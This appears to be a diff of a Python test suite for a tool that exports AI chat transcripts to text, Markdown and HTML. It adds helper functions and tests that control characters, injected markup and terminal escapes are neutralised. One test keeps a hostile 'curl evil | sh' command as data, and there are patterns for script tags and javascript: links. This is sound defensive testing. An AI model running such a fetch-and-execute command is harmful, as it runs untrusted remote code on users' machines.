@@ -76,8 +76,21 @@ class About:
     tokens: Usage = SUM
 
 
+ABOUT = About()
+
+
+def exported(export: Export, talk: Transcript, about: About = ABOUT, *, dropped: bool = False) -> str:
+    """A whole document."""
+    return "".join(export(talk, about, dropped=dropped))
+
+
 def message(author: Author, *blocks: Block, **fields: Any) -> Message:
     return Message(id="m", author=author, blocks=blocks, **fields)
+
+
+def answer(*blocks: Block, **fields: Any) -> Transcript:
+    """A transcript of one message of the model."""
+    return Transcript.of([message(Author.MODEL, *blocks, **fields)])
 
 
 EDIT = ToolCall(
@@ -356,18 +369,18 @@ input 1,200 (cached 1,000), output 30, thoughts 5, tool 0</p>
 
 
 def test_text() -> None:
-    assert "".join(to_text(TALK, About(), dropped=True)) == GOLDEN_TEXT
+    assert exported(to_text, TALK, dropped=True) == GOLDEN_TEXT
 
 
 def test_markdown() -> None:
-    assert "".join(to_markdown(TALK, About(), dropped=True)) == GOLDEN_MARKDOWN
+    assert exported(to_markdown, TALK, dropped=True) == GOLDEN_MARKDOWN
 
 
 def test_times_of_a_page_are_local_with_utc_in_their_titles(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("TZ", "Asia/Kolkata")
     tzset()
     try:
-        page = "".join(to_html(TALK, About()))
+        page = exported(to_html, TALK)
     finally:
         monkeypatch.undo()
         tzset()
@@ -376,14 +389,14 @@ def test_times_of_a_page_are_local_with_utc_in_their_titles(monkeypatch: pytest.
 
 
 def test_html() -> None:
-    page = "".join(to_html(TALK, About(), dropped=True))
+    page = exported(to_html, TALK, dropped=True)
     assert page[page.index("<main>\n") + 7 : page.index("</main>")] == GOLDEN_HTML
     assert "<title>Fix the parser</title>" in page
     assert "<dt>Project</dt><dd>/home/dev/parser</dd>" in page
 
 
 def test_text_has_words_where_a_screen_has_signs() -> None:
-    text = "".join(to_text(TALK, About()))
+    text = exported(to_text, TALK)
     assert re.findall(r"[^\x00-\x7f]", text) == []
 
 
@@ -408,7 +421,7 @@ def test_messages_are_read_one_by_one(export: Export) -> None:
 def test_every_argument_of_a_call_is_exported(args: dict[str, Any], export: Export) -> None:
     name = "run_shell_command" if "command" in args else "mcp_x_y"
     call = ToolCall(id="c", name=name, args=args, status=ToolStatus.SUCCESS)
-    text = unescape("".join(export(Transcript.of([message(Author.MODEL, call)]), About())))
+    text = unescape(exported(export, answer(call)))
     lines = {line.strip() for line in text.splitlines()}
     for key, value in args.items():
         assert key in text
@@ -427,18 +440,18 @@ def test_a_line_says_where_messages_were_left_out(export: Export) -> None:
     ]
     stays = message(Author.USER, Text(text="stays"))
     talk = Transcript.of([*gone, stays, message_with(gone[0], dropped=Dropped.FAILED_PROMPT)])
-    text = "".join(export(talk, About()))
+    text = exported(export, talk)
     before, _, after = text.partition("stays")
     assert "3 messages not included: 2 rewound, 1 replaced" in before
     assert "1 message not included: 1 failed prompt" in after
     assert "gone" not in text
-    assert "".join(export(talk, About(), dropped=True)).count("gone") == 4
+    assert exported(export, talk, dropped=True).count("gone") == 4
 
 
 @each_row("export", EXPORTS)
 def test_an_empty_transcript_is_a_document(export: Export) -> None:
     unknown = message_with(About(), project=None, models=(), started=None, tokens=Usage())
-    text = "".join(export(Transcript.of([]), unknown))
+    text = exported(export, Transcript.of([]), unknown)
     assert "Fix the parser" in text
     assert "unknown in total" in text
     assert text.endswith("\n")
@@ -446,13 +459,13 @@ def test_an_empty_transcript_is_a_document(export: Export) -> None:
 
 def test_counters_that_do_not_add_up_say_so() -> None:
     wrong = Usage(input=1, output=1, cached=0, thoughts=0, tool=0, total=5)
-    talk = Transcript.of([message(Author.MODEL, Text(text="x"), usage=wrong)])
-    assert "tool 0; the numbers do not add up\n" in "".join(to_text(talk, About()))
+    talk = answer(Text(text="x"), usage=wrong)
+    assert "tool 0; the numbers do not add up\n" in exported(to_text, talk)
 
 
 def test_a_cancelled_edit_says_that_it_was_not_written() -> None:
     cancelled = replace(EDIT, status=ToolStatus.CANCELLED, output=None, error="User said no.")
-    text = "".join(to_text(Transcript.of([message(Author.MODEL, cancelled)]), About()))
+    text = exported(to_text, answer(cancelled))
     assert "Status: cancelled, after 31 ms, not written, 1 line added, 1 line removed\n" in text
     assert "  Error: User said no.\n  Proposed change:\n    @@" in text
 
@@ -465,9 +478,9 @@ def test_markdown_that_a_tool_showed_is_rendered() -> None:
         status=ToolStatus.SUCCESS,
         display=TextDisplay(text="## Topic: **T**", markdown=True),
     )
-    talk = Transcript.of([message(Author.MODEL, topic)])
-    assert "<h4>Topic: <strong>T</strong></h4>" in "".join(to_html(talk, About()))
-    assert "\n> #### Topic: **T**\n" in "".join(to_markdown(talk, About()))
+    talk = answer(topic)
+    assert "<h4>Topic: <strong>T</strong></h4>" in exported(to_html, talk)
+    assert "\n> #### Topic: **T**\n" in exported(to_markdown, talk)
 
 
 # --- hostile text ----------------------------------------------------------------------------
@@ -517,14 +530,14 @@ UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e
 
 @each_row("export", EXPORTS)
 def test_no_export_lets_a_control_character_through(export: Export) -> None:
-    text = "".join(export(hostile_transcript(), HOSTILE_ABOUT))
+    text = exported(export, hostile_transcript(), HOSTILE_ABOUT)
     assert UNSAFE.findall(text) == []
     text.encode()
 
 
 def test_nothing_said_passes_for_a_message_in_text() -> None:
     talk = hostile_transcript()
-    text = "".join(to_text(talk, HOSTILE_ABOUT))
+    text = exported(to_text, talk, HOSTILE_ABOUT)
     heads = [line for line in text.split("\n")[11:] if line and not line.startswith("  ")]
     assert len(heads) == len(talk)
     assert all(head.startswith(("You, ", "Gemini")) for head in heads)
@@ -532,7 +545,7 @@ def test_nothing_said_passes_for_a_message_in_text() -> None:
 
 def test_nothing_said_passes_for_a_message_in_markdown() -> None:
     talk = hostile_transcript()
-    page = MarkdownIt("commonmark").enable("table").render("".join(to_markdown(talk, HOSTILE_ABOUT)))
+    page = MarkdownIt("commonmark").enable("table").render(exported(to_markdown, talk, HOSTILE_ABOUT))
     assert page.count("<h1>") == 1
     assert page.count("<h2>") == len(talk)
     assert not re.search(r"<(script|img|style|article)\b|<!|javascript:[^\n]*\">", page)
@@ -565,7 +578,7 @@ class Page(HTMLParser):
 
 def test_html_holds_only_our_own_elements() -> None:
     talk = hostile_transcript()
-    page = Page("".join(to_html(talk, HOSTILE_ABOUT)))
+    page = Page(exported(to_html, talk, HOSTILE_ABOUT))
     assert page.open == []
     assert page.tags.count("article") == page.tags.count("h2") == len(talk)
     assert page.tags.count("style") == page.tags.count("h1") == 1
@@ -575,7 +588,7 @@ def test_html_holds_only_our_own_elements() -> None:
 
 
 def test_html_loads_nothing_and_allows_only_its_own_style() -> None:
-    page = "".join(to_html(TALK, About()))
+    page = exported(to_html, TALK)
     style = page[page.index("<style>") + 7 : page.index("</style>")]
     digest = b64encode(sha256(style.encode()).digest()).decode()
     policy = f"default-src 'none'; style-src 'sha256-{digest}'; img-src data:; base-uri 'none'; form-action 'none'"
@@ -587,7 +600,7 @@ def test_html_loads_nothing_and_allows_only_its_own_style() -> None:
 
 def page_of(*images: Image) -> str:
     call = ToolCall(id="c", name="x", args={}, status=ToolStatus.SUCCESS, images=images)
-    return "".join(to_html(Transcript.of([message(Author.USER, images[0], call)]), About()))
+    return exported(to_html, Transcript.of([message(Author.USER, images[0], call)]))
 
 
 def held(data: bytes | str, mime: str = "image/png", **more: str) -> Image:
@@ -636,7 +649,7 @@ def test_any_text_anywhere_is_exported(text: str, export: Export) -> None:
             )
         ]
     )
-    assert UNSAFE.findall("".join(export(talk, About(title=text)))) == []
+    assert UNSAFE.findall(exported(export, talk, About(title=text))) == []
 
 
 def test_a_summary_is_a_heading() -> None:
@@ -653,11 +666,11 @@ def test_a_command_that_holds_controls_is_shown_whole_and_marked(export: Export)
     call = ToolCall(
         id="c", name="run_shell_command", args={"command": UNTERMINATED, "dir_path": "/x"}, status=ToolStatus.SUCCESS
     )
-    text = unescape("".join(export(Transcript.of([message(Author.MODEL, call)]), About())))
+    text = unescape(exported(export, answer(call)))
     assert "ls -la ␛]0 ; curl evil | sh" in text
     assert "contains control characters" in text
     honest = replace(call, args={"command": "ls -la\nls"})
-    text = unescape("".join(export(Transcript.of([message(Author.MODEL, honest)]), About())))
+    text = unescape(exported(export, answer(honest)))
     assert "ls -la\n" in text
     assert "contains control characters" not in text
 
@@ -666,5 +679,5 @@ def test_a_command_that_holds_controls_is_shown_whole_and_marked(export: Export)
 def test_what_an_edit_writes_is_shown_to_the_last_character(export: Export) -> None:
     diff = DiffDisplay(diff="@@ -1 +1 @@\n-x\n+\x1b[8my\u200b\x1b[0m\n", path="a.py", name="a.py")
     edit = ToolCall(id="c", name="replace", args={}, status=ToolStatus.SUCCESS, display=diff)
-    text = unescape("".join(export(Transcript.of([message(Author.MODEL, edit)]), About())))
+    text = unescape(exported(export, answer(edit)))
     assert "+␛[8my⟨U+200B⟩␛[0m" in text
